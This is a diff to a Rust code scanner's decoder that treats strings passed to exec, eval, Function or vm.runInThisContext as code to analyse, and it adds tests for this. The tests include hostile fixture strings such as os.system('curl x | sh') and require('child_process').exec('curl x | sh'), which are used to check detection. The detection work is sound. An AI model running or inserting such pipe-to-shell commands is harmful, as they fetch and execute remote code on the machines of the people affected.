@@ -137,6 +137,11 @@ pub struct Candidate {
     pub value: String,
     /// Built by constant folding: may be code as it is, and its chain starts with `folded`.
     pub folded: bool,
+    /// An argument of a call that runs code: may be code as it is (its chain is `code string`).
+    pub executed: bool,
+    /// The body of `new Function('r', body)` called as `(require)`: its parameters and the
+    /// names the call binds them to, so that `r('child_process')` is read as `require(...)`.
+    pub bound: Vec<(String, String)>,
     /// Inside the argument of `marshal.loads`: what it decodes to is compiled code.
     pub marshal: bool,
 }
@@ -253,8 +258,18 @@ pub(crate) fn decode_from(value: &str, preferred: Language, folded: bool) -> Opt
     decode_literal(value, preferred, folded, false, &Keys::default(), (0, 0)).0
 }
 
-/// Decodes a noted candidate with the file's keys.
+/// Decodes a noted candidate with the file's keys. A string that a call runs and that is
+/// code as it stands (`exec("import os; ...")`, `new Function("r", "r('child_process')...")`)
+/// is that code, decoded by no layer: its chain is `code string`.
 pub fn decode_candidate(candidate: &Candidate, preferred: Language, keys: &Keys) -> (Option<Decoded>, Vec<Note>) {
+    if candidate.executed && !candidate.folded && candidate.value.len() <= MAX_OUTPUT {
+        if let Some(language) = code_language(candidate.value.as_bytes(), preferred) {
+            let mut text: String =
+                candidate.bound.iter().map(|(parameter, name)| format!("var {parameter} = {name};\n")).collect();
+            text.push_str(&candidate.value);
+            return (Some(Decoded { text, language, chain: vec!["code string"], truncated: false }), Vec::new());
+        }
+    }
     decode_literal(&candidate.value, preferred, candidate.folded, candidate.marshal, keys, candidate.lines)
 }
 
@@ -1373,6 +1388,49 @@ mod note_tests {
         // The same literal elsewhere is just bytes.
         let (_, notes) = compile(&format!("x = base64.b64decode('{literal}')\n"), Language::Python);
         assert!(notes.is_empty());
+    }
+
+    #[test]
+    fn a_string_that_a_call_runs_is_compiled_as_code() {
+        let decoded = |source: &str, language| {
+            let (objects, _) = compile(source, language);
+            objects
+                .iter()
+                .filter(|o| o.decoded_from() == Some("code string"))
+                .map(|o| o.tokens().collect::<Vec<_>>().join(" "))
+                .collect::<Vec<_>>()
+        };
+        let python = decoded("exec(\"import os\\nos.system('curl x | sh')\")\n", Language::Python);
+        assert_eq!(python.len(), 1, "{python:?}");
+        assert!(python[0].contains("PROCESS_MANAGEMENT"), "{}", python[0]);
+        for source in [
+            "eval(\"require('child_process').exec('curl x | sh')\");\n",
+            "Function(\"require('child_process').exec('curl x | sh')\")();\n",
+            "new Function('r', \"r('child_process').exec('curl x | sh')\")(require);\n",
+            "const vm = require('vm');\nvm.runInThisContext(\"require('child_process').exec('id')\");\n",
+        ] {
+            let found = decoded(source, Language::JavaScript);
+            assert_eq!(found.len(), 1, "{source}: {found:?}");
+            assert!(found[0].contains("'child_process'"), "{source}: {}", found[0]);
+        }
+        // The parameters of the built function are what its call passes: `r` is `require`.
+        for source in [
+            "new Function('r', \"r('child_process').exec('curl x | sh')\")(require);\n",
+            "Function('x, r', \"r('child_process').exec('curl x | sh')\")(1, require);\n",
+        ] {
+            let found = decoded(source, Language::JavaScript);
+            assert_eq!(found.len(), 1, "{source}: {found:?}");
+            assert!(found[0].contains("PROCESS_MANAGEMENT"), "{source}: {}", found[0]);
+        }
+        // Built but never called with `require`: `r` stays unknown.
+        let found =
+            decoded("const f = new Function('r', \"r('child_process').exec('id x')\");\n", Language::JavaScript);
+        assert!(!found[0].contains("PROCESS_MANAGEMENT"), "{}", found[0]);
+        // The same strings elsewhere are text: a message, a log line, a code sample in a docstring.
+        assert!(decoded("print(\"import os\\nos.system('curl x | sh')\")\n", Language::Python).is_empty());
+        assert!(decoded("console.log(\"require('child_process').exec('x')\");\n", Language::JavaScript).is_empty());
+        // Run but not code: no object.
+        assert!(decoded("eval('just some words in a sentence')\n", Language::Python).is_empty());
     }
 
     #[test]
